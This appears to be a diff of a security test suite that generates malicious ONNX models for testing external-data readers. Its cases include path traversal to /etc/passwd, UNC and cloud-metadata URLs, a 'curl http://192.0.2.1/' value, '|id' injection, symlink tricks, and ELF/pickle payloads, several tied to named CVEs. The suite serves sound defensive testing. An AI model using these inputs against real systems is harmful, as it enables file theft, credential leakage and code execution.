@@ -10,6 +10,7 @@ from .case import Fifo, Hardlink, Sparse, Symlink, declare
 from .payload_bytes import ELF, PICKLE
 from .writer import (
     BOOL,
+    DOUBLE,
     EXTERNAL,
     FLOAT,
     INT8,
@@ -41,14 +42,14 @@ OUTSIDE = "../outside.bin"
 
 
 def model_with_location(location, **keys):
-    """Return a model whose weight is external data at a location."""
+    """Return a model whose weight is external data at a location. keys: the other entries of external_data."""
     return model_with_weight(external_pairs("w", [("location", location), *keys.items()]))
 
 
 def add_path_attacks(attack, rows, **options):
-    """Add an attack for each (name, effect, location)."""
-    for name, effect, location in rows:
-        attack(name, effect, model_with_location(location), **options)
+    """Add an attack for each (name, description, location)."""
+    for name, description, location in rows:
+        attack(name, description, model_with_location(location), **options)
 
 
 attack = declare("path-absolute", "files", "External data has an absolute path.", "CWE-36", AFFECTED)
@@ -83,7 +84,7 @@ attack("with-checksum", "The location is ../outside.bin, with offset, length and
     model_with_location(OUTSIDE, offset=4096, length=16, checksum="0" * 40), cve="CVE-2024-27318")
 
 attack = declare("path-expansion", "files",
-    "A location is a path outside of the folder after an expansion that some readers do.", "CWE-73", AFFECTED)
+    "A location has another meaning after an expansion that some readers perform.", "CWE-73", AFFECTED)
 add_path_attacks(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside.bin"), ("percent-slash",
     "..%2foutside.bin", "..%2foutside.bin"), ("percent-twice", "%252e%252e%252foutside.bin, decoded twice.",
     "%252e%252e%252foutside.bin"), ("percent-absolute", "%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd"), ("percent-nul",
@@ -94,13 +95,13 @@ add_path_attacks(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside
     "|id"), ("glob", "*.bin", "*.bin")])
 attack = declare("path-network", "files",
     "A location is a network address: a reader may send requests or credentials.", "CWE-918", AFFECTED)
-add_path_attacks(attack, [("unc", "\\\\192.0.2.1\\share\\w.bin: Windows sends the user's hash.",
+add_path_attacks(attack, [("unc", "\\\\192.0.2.1\\share\\w.bin: Windows sends a hash of the user's password.",
     "\\\\192.0.2.1\\share\\w.bin"), ("unc-slashes", "//192.0.2.1/share/w.bin", "//192.0.2.1/share/w.bin"), (
     "unc-webdav", "\\\\192.0.2.1@80\\share\\w.bin", "\\\\192.0.2.1@80\\share\\w.bin"), ("https",
     "https://192.0.2.1/w.bin", "https://192.0.2.1/w.bin"), ("metadata-service",
     "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"), ("s3", "s3://bucket/w.bin",
     "s3://bucket/w.bin"), ("file-host", "file://192.0.2.1/share/w.bin", "file://192.0.2.1/share/w.bin"), ("data-url",
-    "data:application/octet-stream;base64,AAAA", "data:application/octet-stream;base64,AACAPwAAgD8AAIA/AACAPw=="),
+    "A data URL that contains four floats.", "data:application/octet-stream;base64,AACAPwAAgD8AAIA/AACAPw=="),
     ("hub", "hf://someone/model/w.bin", "hf://someone/model/w.bin"), ("smb-url", "smb://192.0.2.1/share/w.bin",
     "smb://192.0.2.1/share/w.bin"), ("jar-url", "jar:http://192.0.2.1/x.jar!/w.bin",
     "jar:http://192.0.2.1/x.jar!/w.bin")])
@@ -117,8 +118,8 @@ add_path_attacks(attack, [("drive-absolute", "C:\\Windows\\win.ini", "C:\\Window
     ("trailing-dot", "weights.bin. (Windows strips the dot)", "weights.bin."), ("trailing-space",
     "'weights.bin ' (Windows strips the space)", "weights.bin "), ("short-name", "PROGRA~1\\w.bin",
     "PROGRA~1\\w.bin")])
-attack = declare("path-device", "files", "A location is a device, a pipe or a folder: reads do not end or block.",
-    "CWE-66", AFFECTED)
+attack = declare("path-device", "files",
+    "A location is a device, a pipe or a folder: reading it blocks or does not end.", "CWE-66", AFFECTED)
 add_path_attacks(attack, [("zero", "/dev/zero never ends.", "/dev/zero"), ("random", "/dev/random", "/dev/random"), (
     "stdin", "/dev/stdin blocks.", "/dev/stdin"), ("tty", "/dev/tty", "/dev/tty"), ("file-descriptor",
     "/proc/self/fd/0", "/proc/self/fd/0"), ("folder", "The location is '.', the model's folder.", "."), ("empty",
@@ -128,7 +129,7 @@ attack("named-pipe", "The location is a named pipe in the folder: opening it blo
     "pipe.bin"), files={"pipe.bin": Fifo()})
 
 attack = declare("path-characters", "files",
-    "A location has NUL, control or invisible characters, so that checks and the system see different names.",
+    "A location has NUL, control or invisible characters, or is very long: checks and the system see different names.",
     "CWE-158", AFFECTED)
 add_path_attacks(attack, [("nul-suffix", "'nul.bin' NUL '.txt': C functions stop at the NUL.", "nul.bin\0.txt"), (
     "nul-parent", "'../outside.bin' NUL 'x/../../w.bin'.", "../outside.bin\0x/../../w.bin"), ("newline",
@@ -139,36 +140,37 @@ add_path_attacks(attack, [("nul-suffix", "'nul.bin' NUL '.txt': C functions stop
     "a" * 70000), ("deep", "A location of 5,000 folders.", "a/" * 5000 + "w.bin"), ("tab",
     "A tab before the location.", "\tnul.bin")], files={"nul.bin": WEIGHTS})
 
-attack = declare("link", "files", "The location is inside of the folder, and the file is a link that leaves it.",
-    "CWE-59", "onnx before 1.21, onnxruntime, OpenVINO, converters")
+attack = declare("link", "files",
+    "The location is inside of the folder, but the file is a link, usually to a file outside of the folder.", "CWE-59",
+    "onnx before 1.21, onnxruntime, OpenVINO, converters")
 attack("symlink", "A symbolic link to ../outside.bin.", model_with_location("link.bin"), cve="CVE-2026-27489",
     files={"link.bin": Symlink(OUTSIDE)})
 attack("symlink-absolute", "A symbolic link to /etc/passwd.", model_with_location("passwd.bin"), cve="CVE-2026-27489",
     files={"passwd.bin": Symlink("/etc/passwd")})
 attack("symlink-folder", "The folder of the file is a symbolic link to '..'.", model_with_location("up/outside.bin"),
     cve="CVE-2026-27489", files={"up": Symlink("..")})
-attack("symlink-chain", "A chain of three links.", model_with_location("chain1.bin"), files={"chain1.bin": Symlink(
-    "chain2.bin"), "chain2.bin": Symlink("chain3.bin"), "chain3.bin": Symlink(OUTSIDE)})
+attack("symlink-chain", "A chain of three links to ../outside.bin.", model_with_location("chain1.bin"),
+    files={"chain1.bin": Symlink("chain2.bin"), "chain2.bin": Symlink("chain3.bin"), "chain3.bin": Symlink(OUTSIDE)})
 attack("symlink-loop", "A link to itself.", model_with_location("loop.bin"), files={"loop.bin": Symlink("loop.bin")})
 attack("symlink-dangling", "A link to a file that does not exist yet: saving would create it.",
     model_with_location("dangling.bin"), files={"dangling.bin": Symlink("../created.bin")}, cve="CVE-2025-51480")
 attack("symlink-device", "A link to /dev/zero.", model_with_location("zero.bin"), files={"zero.bin": Symlink(
     "/dev/zero")})
-attack("hardlink", "A hard link to ../outside.bin: no check of paths sees it.", model_with_location("hard.bin"),
+attack("hardlink", "A hard link to ../outside.bin: no check of paths detects it.", model_with_location("hard.bin"),
     cve="CVE-2026-34446", files={"hard.bin": Hardlink(OUTSIDE)}, affects="onnx before 1.21, onnxruntime, OpenVINO")
-attack("proc-link", "The location goes through /proc/self/cwd by a link.", model_with_location("cwd/outside.bin"),
-    files={"cwd": Symlink("/proc/self/cwd")})
+attack("proc-link", "The folder of the file is a symbolic link to /proc/self/cwd.",
+    model_with_location("cwd/outside.bin"), files={"cwd": Symlink("/proc/self/cwd")})
 
 # Ranges
 
 attack = declare("range-beyond-file", "files", "Offset and length lead beyond the file.", "CWE-125", AFFECTED)
-FILES = {"range.bin": bytes(64)}
+RANGE_FILES = {"range.bin": bytes(64)}
 
 
-def range_attack(name, effect, dims=(4,), data_type=FLOAT, cwe="CWE-125", **keys):
+def range_attack(name, description, dims=(4,), data_type=FLOAT, cwe="CWE-125", **keys):
     """Add an attack with external data. keys: the entries besides the location."""
-    attack(name, effect, model_with_weight(external_pairs("w", [("location", "range.bin"), *keys.items()], dims,
-        data_type)), files=FILES, cwe=cwe)
+    attack(name, description, model_with_weight(external_pairs("w", [("location", "range.bin"), *keys.items()], dims,
+        data_type)), files=RANGE_FILES, cwe=cwe)
 
 
 range_attack("offset", "The offset is 2^20 in a file of 64 bytes.", offset=1 << 20, length=16)
@@ -192,13 +194,13 @@ attack("sparse-file", "The file is 1 TiB of zeros that take no disk space; the t
 
 attack = declare("range-not-number", "files",
     "Offset or length is no plain decimal number: readers parse it differently.", "CWE-1286", AFFECTED)
-FILES = {"number.bin": bytes(range(64))}
+NUMBER_FILES = {"number.bin": bytes(range(64))}
 
 
-def number_attack(name, effect, offset, length="16"):
+def number_attack(name, description, offset, length="16"):
     """Add an attack whose offset and length are these texts."""
-    attack(name, effect, model_with_weight(external_pairs("w", [("location", "number.bin"), ("offset", offset), (
-        "length", length)])), files=FILES)
+    attack(name, description, model_with_weight(external_pairs("w", [("location", "number.bin"), ("offset", offset), (
+        "length", length)])), files=NUMBER_FILES)
 
 
 number_attack("hexadecimal", "The offset is 0x10: 16 or 0.", "0x10")
@@ -216,47 +218,48 @@ number_attack("length-suffix", "The length is 16K.", "0", "16K")
 
 attack = declare("length-mismatch", "files", "The length of external data differs from what the shape needs.",
     "CWE-131", AFFECTED)
-FILES = {"mismatch.bin": bytes(4096)}
+MISMATCH_FILES = {"mismatch.bin": bytes(4096)}
 
 
-def length_attack(name, effect, dims=(4,), data_type=FLOAT, **keys):
+def length_attack(name, description, dims=(4,), data_type=FLOAT, **keys):
     """Add an attack with external data of another size than the tensor. keys: the entries besides the location."""
-    attack(name, effect, model_with_weight(external_pairs("w", [("location", "mismatch.bin"), *keys.items()], dims,
-        data_type)), files=FILES)
+    attack(name, description, model_with_weight(external_pairs("w", [("location", "mismatch.bin"), *keys.items()], dims,
+        data_type)), files=MISMATCH_FILES)
 
 
 length_attack("shorter", "Four floats with a length of 4 bytes.", length=4)
-length_attack("longer", "Four floats with a length of 4,096 bytes, which hides the rest.", length=4096)
+length_attack("longer", "Four floats with a length of 4,096 bytes, of which a reader uses 16.", length=4096)
 length_attack("zero", "Four floats with a length of 0.", length=0)
-length_attack("int8", "A length for int8, the type is double.", data_type=11, length=4)
-length_attack("unaligned", "An offset of 3: a mapped view is misaligned.", offset=3, length=16)
+length_attack("int8", "Four doubles with the length of four int8 elements.", data_type=DOUBLE, length=4)
+length_attack("unaligned", "An offset of 3: an array over the mapped file is misaligned.", offset=3, length=16)
 length_attack("scalar", "A scalar with a length of 64.", dims=(), length=64)
 
 attack = declare("range-overlap", "files",
     "Ranges of tensors overlap: writing one changes another, or content is counted twice.", "CWE-1260", AFFECTED)
 
 
-def overlap_attack(name, effect, first, second, size=64):
+def overlap_attack(name, description, first, second, size=64):
     """Add an attack with two tensors in one file. first, second: their offsets and lengths in bytes."""
     file = f"{name}.bin"
     extra = external_pairs("v", [("location", file), ("offset", second[0]), ("length", second[1])], (second[1] // 4,))
     weight = external_pairs("w", [("location", file), ("offset", first[0]), ("length", first[1])], (first[1] // 4,))
     body = graph([node("Add", ["x", "w"], ["y"]), node("Neg", ["v"], ["z"])], [X], [value("y", FLOAT, [None]),
         value("z", FLOAT, [None])], [weight, extra])
-    attack(name, effect, model(body), files={file: bytes(size)})
+    attack(name, description, model(body), files={file: bytes(size)})
 
 
 overlap_attack("partial", "The second tensor begins within the first.", (0, 16), (8, 16))
 overlap_attack("one-byte", "The second tensor begins one byte before the end of the first.", (0, 16), (15, 16))
 overlap_attack("inside", "The second tensor is inside of the first.", (0, 64), (16, 16))
-overlap_attack("same-start", "Both begin at 0 with different lengths.", (0, 16), (0, 32))
-attack("many", "200 tensors are views of the same 4 KiB, each shifted by 4 bytes.", model_with_extras([external(f"t{i}",
-    [800], location="many.bin", offset=4 * i, length=3200) for i in range(200)]), files={"many.bin": bytes(4096)})
-attack("quadratic", "300 tensors of 1 MiB each in a file of 1 MiB: reading all costs 300 MiB.",
+overlap_attack("same-start", "Both tensors begin at 0 with different lengths.", (0, 16), (0, 32))
+attack("many", "200 tensors share 4 KiB; each begins 4 bytes after the one before.",
+    model_with_extras([external(f"t{i}", [800], location="many.bin", offset=4 * i, length=3200) for i in range(200)]),
+    files={"many.bin": bytes(4096)})
+attack("quadratic", "300 tensors of 1 MiB each in a file of 1 MiB: all tensors together take 300 MiB of memory.",
     model_with_extras([external(f"t{i}", [1 << 18], location="mega.bin", offset=0, length=1 << 20) for i in range(
     300)]), files={"mega.bin": Sparse(1 << 20)}, cwe="CWE-409")
 
-attack = declare("own-file", "files", "External data is the model itself or another file of its kind.", "CWE-610",
+attack = declare("own-file", "files", "The file of external data is the model itself or another model.", "CWE-610",
     AFFECTED)
 attack("model", "The location is the model file.", model_with_location("model.onnx"), files={})
 attack("model-with-range", "The location is the model file, the range its first 16 bytes.",
@@ -268,41 +271,41 @@ attack("link-to-model", "The location is a link to the model file.", model_with_
     files={"self.bin": Symlink("link-to-model.onnx")})
 attack("hardlink-to-model", "The location is a hard link to the model file.", model_with_location("self2.bin"),
     files={"self2.bin": Hardlink("hardlink-to-model.onnx")})
-attack("upper-case", "The location is MODEL.ONNX: the model on file systems that ignore case.",
+attack("upper-case", "The location is UPPER-CASE.ONNX: the model on file systems that ignore case.",
     model_with_location("UPPER-CASE.ONNX"))
 
 attack = declare("shared-range", "files", "Unrelated tensors share the same bytes of a file.", "CWE-1260", AFFECTED)
-FILES = {"shared.bin": bytes(64)}
+SHARED_FILES = {"shared.bin": bytes(64)}
 
 
-def shared_bytes_attack(name, effect, first, second):
+def shared_bytes_attack(name, description, first, second):
     """Add an attack with two tensors of the same bytes. first, second: their dims and data types."""
     tensors = [external_pairs("w", [("location", "shared.bin"), ("length", "16")], *first), external_pairs("v",
         [("location", "shared.bin"), ("length", "16")], *second)]
-    attack(name, effect, model(graph([node("Add", ["x", "w"], ["y"]), node("Identity", ["v"], ["z"])], [X], [value("y"),
-        value("z", second[1])], tensors)), files=FILES)
+    attack(name, description, model(graph([node("Add", ["x", "w"], ["y"]), node("Identity", ["v"], ["z"])], [X],
+        [value("y"), value("z", second[1])], tensors)), files=SHARED_FILES)
 
 
-shared_bytes_attack("float-and-int64", "A float and an int64 tensor are the same bytes.", ((4,), FLOAT), ((2,), INT64))
-shared_bytes_attack("float-and-bool", "A float and a bool tensor are the same bytes.", ((4,), FLOAT), ((16,), BOOL))
-shared_bytes_attack("two-shapes", "Two float tensors of different shapes are the same bytes.", ((4,), FLOAT), ((2, 2),
+shared_bytes_attack("float-and-int64", "A float and an int64 tensor use the same bytes.", ((4,), FLOAT), ((2,), INT64))
+shared_bytes_attack("float-and-bool", "A float and a bool tensor use the same bytes.", ((4,), FLOAT), ((16,), BOOL))
+shared_bytes_attack("two-shapes", "Two float tensors of different shapes use the same bytes.", ((4,), FLOAT), ((2, 2),
     FLOAT))
-shared_bytes_attack("float-and-int8", "Weights and a quantized tensor are the same bytes.", ((4,), FLOAT), ((16,),
+shared_bytes_attack("float-and-int8", "Weights and a quantized tensor use the same bytes.", ((4,), FLOAT), ((16,),
     INT8))
 
 # Checksums
 
-attack = declare("checksum", "files", "The checksum of external data is wrong or no digest: the file was exchanged.",
-    "CWE-354", AFFECTED)
+attack = declare("checksum", "files",
+    "The checksum of external data is wrong or no digest: the file may have been replaced.", "CWE-354", AFFECTED)
 
 
-def checksum_attack(name, effect, text):
+def checksum_attack(name, description, text):
     """Add an attack whose external data has this text as its checksum."""
-    attack(name, effect, model_with_weight(external("w", location="digest.bin", offset=0, length=16, checksum=text)),
-        files={"digest.bin": WEIGHTS})
+    attack(name, description, model_with_weight(external("w", location="digest.bin", offset=0, length=16,
+        checksum=text)), files={"digest.bin": WEIGHTS})
 
 
-checksum_attack("wrong", "The SHA1 is of other content.", hashlib.sha1(b"other").hexdigest())
+checksum_attack("wrong", "The checksum is the SHA-1 of other content.", hashlib.sha1(b"other").hexdigest())
 checksum_attack("short", "The checksum has 8 digits.", hashlib.sha1(WEIGHTS).hexdigest()[:8])
 checksum_attack("not-hexadecimal", "The checksum is 'trust me'.", "trust me")
 checksum_attack("md5", "The checksum is an MD5.", hashlib.md5(WEIGHTS).hexdigest())
@@ -310,14 +313,14 @@ checksum_attack("zeros", "The checksum is forty zeros.", "0" * 40)
 checksum_attack("empty", "The checksum is empty.", "")
 checksum_attack("prefixed", "The checksum is prefixed with 'sha1:'.", "sha1:" + hashlib.sha1(WEIGHTS).hexdigest())
 
-attack = declare("path-ambiguous", "files", "Two names may be one file, or a place that other users can write to.",
+attack = declare("path-ambiguous", "files", "Two names may denote one file, or other users can write to the file.",
     "CWE-367", AFFECTED)
 
 
-def two_paths_attack(name, effect, first, second, files):
+def two_paths_attack(name, description, first, second, files):
     """Add an attack with two tensors. first, second: their locations."""
     tensors = [external("w", location=first, offset=0, length=16), external("v", location=second, offset=0, length=16)]
-    attack(name, effect, model(graph([node("Add", ["x", "w"], ["a"]), node("Add", ["a", "v"], ["y"])], [X], [Y],
+    attack(name, description, model(graph([node("Add", ["x", "w"], ["a"]), node("Add", ["a", "v"], ["y"])], [X], [Y],
         tensors)), files=files)
 
 
@@ -329,17 +332,18 @@ two_paths_attack("dot-segments", "amb.bin and ./folder/../amb.bin are one file."
     {"amb.bin": WEIGHTS, "folder/present.bin": WEIGHTS})
 attack("tmp", "The location is /tmp/weights.bin, where every user can write.", model_with_location("/tmp/weights.bin"))
 attack("shared-memory", "The location is /dev/shm/weights.bin.", model_with_location("/dev/shm/weights.bin"))
-attack("look-alike", "weights.bin with a Cyrillic letter beside the real one.", model_with_location("w\u0435ights.bin",
-    length=16), files={"w\u0435ights.bin": WEIGHTS, "weights.bin": WEIGHTS[::-1]})
+attack("look-alike", "The name weights.bin with a Cyrillic letter; a file weights.bin is beside it.",
+    model_with_location("w\u0435ights.bin", length=16), files={"w\u0435ights.bin": WEIGHTS,
+    "weights.bin": WEIGHTS[::-1]})
 
 attack = declare("external-key", "files",
-    "external_data has keys that set attributes of the reader's objects, or none of those it needs.", "CWE-915",
+    "external_data has keys that set attributes of the reader's objects, or lacks necessary keys.", "CWE-915",
     "onnx before 1.21, onnxruntime")
 
 
-def key_attack(name, effect, *pairs, cve="CVE-2026-34445"):
+def key_attack(name, description, *pairs, cve="CVE-2026-34445"):
     """Add an attack whose external data has additional entries."""
-    attack(name, effect, model_with_weight(external_pairs("w", [("location", "keys.bin"), *pairs])), cve=cve,
+    attack(name, description, model_with_weight(external_pairs("w", [("location", "keys.bin"), *pairs])), cve=cve,
         files={"keys.bin": WEIGHTS})
 
 
@@ -347,10 +351,13 @@ key_attack("class", "A key is __class__.", ("__class__", "builtins.dict"))
 key_attack("dict", "A key is __dict__.", ("__dict__", "{}"))
 key_attack("basepath", "A key is basepath: onnx joins it with the location.", ("basepath", "/etc"))
 key_attack("init", "A key is __init__.", ("__init__", "x"))
-key_attack("huge-attribute", "A key sets length to 10^18, which is read at once.", ("length", "1" + "0" * 18))
-key_attack("unknown", "A key 'command' that no specification has.", ("command", "curl http://192.0.2.1/"), cve=None)
-key_attack("upper-case", "The key is Offset: readers that ignore case use it.", ("Offset", "8"), cve=None)
-attack("no-location", "There is no location.", model_with_weight(external_pairs("w", [("offset", 0), ("length", 16)])))
+key_attack("huge-attribute", "A key sets length to 10^18, which some readers allocate at once.", ("length",
+    "1" + "0" * 18))
+key_attack("unknown", "A key is 'command', which no specification defines.", ("command", "curl http://192.0.2.1/"),
+    cve=None)
+key_attack("upper-case", "A key is Offset: readers that ignore case use it.", ("Offset", "8"), cve=None)
+attack("no-location", "External data has no location.", model_with_weight(external_pairs("w", [("offset", 0), ("length",
+    16)])))
 attack("no-entries", "data_location is EXTERNAL and external_data is empty.", model_with_weight(tensor("w", [4],
     extra=integer(14, EXTERNAL))))
 
@@ -367,7 +374,7 @@ for case_name, target in (
     ("desktop", "autostart.desktop"),
     ("pth", "evil.pth"),
 ):
-    attack(case_name, f"The location is {target}; the tensor's bytes are in raw_data as well.",
+    attack(case_name, f"The location is {target}; the tensor's bytes are in raw_data.",
         model_with_weight(external_pairs("w", [("location", target)], extra=record(9, b"#!x\nid;\nid;\nid;\n"))),
         cve="CVE-2025-51480")
 
@@ -391,16 +398,16 @@ attack("in-constant", "The marker is in the tensor of a Constant.", network([nod
     value=external(None, location="*/_ORT_MEM_ADDR_/*", offset=0x10000, length=16)), node("Add", ["x", "c"], ["y"])]),
     source=SOURCE)
 
-attack = declare("path-hidden", "files", "External data outside of the folder is where checks do not look.", "CWE-22",
-    AFFECTED)
+attack = declare("path-hidden", "files",
+    "A reference to a file outside of the folder is in a part of the model that checks omit.", "CWE-22", AFFECTED)
 OUTSIDE_TENSOR = external(None, location=OUTSIDE)
-SECRET = external("e", location=OUTSIDE)
+OUTSIDE_INITIALIZER = external("e", location=OUTSIDE)
 attack("constant", "In the tensor of a Constant.", network([node("Constant", [], ["c"], value=OUTSIDE_TENSOR), node(
     "Add", ["x", "c"], ["y"])]))
 attack("tensors-attribute", "In the tensors of an attribute.", network([node("Custom", ["x"], ["y"], domain="custom",
     extra=record(5, record(1, "t") + record(10, OUTSIDE_TENSOR) + integer(20, 9)))], opsets=(("", 21), ("custom", 1))))
 attack("branch", "In the initializer of a branch.", network([node("If", ["t"], ["y"],
-    then_branch=graph([node("Identity", ["e"], ["a"])], [], [value("a")], [SECRET]),
+    then_branch=graph([node("Identity", ["e"], ["a"])], [], [value("a")], [OUTSIDE_INITIALIZER]),
     else_branch=graph([node("Identity", ["x"], ["b"])], [], [value("b")]))], [scalar("t", True, BOOL)]))
 attack("function", "In a Constant of a function.", network([node("F", ["x"], ["y"], domain="local")], opsets=(("",
     21), ("local", 1)), functions=[function("F", [node("Constant", [], ["c"], value=OUTSIDE_TENSOR), node("Add", ["a",
@@ -411,14 +418,14 @@ attack("sparse-indices", "In the indices of a sparse initializer.", model_with_e
     [1.0])) + record(2, external_pairs(None, [("location", OUTSIDE)], [1], INT64)) + integer(3, 8)],
     nodes=[node("Neg", ["sp"], ["z"])]))
 attack("training", "In the initializer of a training algorithm.", model_with_extras(extra=record(20, record(2, graph([],
-    [], [], [SECRET])))))
+    [], [], [OUTSIDE_INITIALIZER])))))
 attack("training-initialization", "In the initialization graph of training_info.", model_with_extras(extra=record(20,
     record(1, graph([node("Constant", [], ["c"], value=OUTSIDE_TENSOR)], [], [value("c")])))))
-attack("unused", "In an initializer that no node uses.", model_with_extras([SECRET]))
+attack("unused", "In an initializer that no node uses.", model_with_extras([OUTSIDE_INITIALIZER]))
 attack("reference-default", "In the default value of a function's attribute.", model_with_extras(functions=[function(
     "F", [node("Identity", ["a"], ["b"])], ["a"], ["b"], extra=record(11, attribute("t", Tensor(OUTSIDE_TENSOR))))]))
-attack("after-many", "In the last of 2,000 initializers.", model_with_extras([values(f"i{n}",
-    [1.0]) for n in range(2000)] + [SECRET]))
+attack("after-many", "In an initializer after 2,000 others.", model_with_extras([values(f"i{n}",
+    [1.0]) for n in range(2000)] + [OUTSIDE_INITIALIZER]))
 
 attack = declare("external-payload", "files",
     "The accompanying file contains an executable or a pickle, as weights or beside the weights.", "CWE-506",
@@ -434,7 +441,7 @@ attack("tail", "An ELF program follows the last tensor.", model_with_location("t
     files={"tail.bin": WEIGHTS + bytes(4080) + ELF})
 attack("head", "An ELF program is before the first tensor.", model_with_location("head.bin", offset=4096, length=16),
     files={"head.bin": ELF + bytes(4096 - len(ELF)) + WEIGHTS})
-attack("sparse-gap", "A file of 4 GiB without disk space has a payload in its middle; tensors use its ends.",
+attack("sparse-gap", "A sparse file of 4 GiB has an ELF program in its middle; tensors are at its ends.",
     model_with_extras([external("a", location="wide.bin", offset=0, length=16), external("b", location="wide.bin",
     offset=(1 << 32) - 16, length=16)]), files={"wide.bin": Sparse(1 << 32, ((0, WEIGHTS), (1 << 31, ELF),
     ((1 << 32) - 16, WEIGHTS)))})
